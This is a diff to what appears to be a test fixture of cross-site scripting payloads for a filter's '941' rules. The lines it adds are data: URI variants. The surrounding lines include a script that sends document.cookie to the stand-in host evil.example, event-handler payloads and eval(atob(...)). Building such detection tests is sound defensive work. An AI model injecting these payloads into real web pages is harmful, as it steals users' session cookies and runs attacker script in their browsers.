@@ -15,6 +15,9 @@ export const markup: Sent[] = [
     "<script>fetch('//evil.example/'+document.cookie)</script>", "<img src=1 onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href=javascript:alert(1)>скидка</a>",
     "Заказ <script>alert('взлом')</script> срочно", "<iframe srcdoc='<script>alert(1)</script>'>", "<marquee onstart=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
   ]),
+  ...each("941", inJson, [
+    "data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PHNjcmlwdD4=", "data:image/png;base64,iVBO\"><x data:text/html,a", "x data:image/png;base64,iVBORw0KGgo=", "data:image/png;base64,iVBO\ndata:text/html;base64,PHN2Zz4=",
+  ]),
   ...each("941", inList, ["<script src=//evil.example></script>", "<svg><animate onbegin=alert(1)>"]),
   ...each("941", inPatch, ["<img src=x onerror=eval(atob('YQ=='))>"]),
   ...each("941", inForm, ["<script>alert(1)</script>", "<body onpageshow=alert(1)>"]),
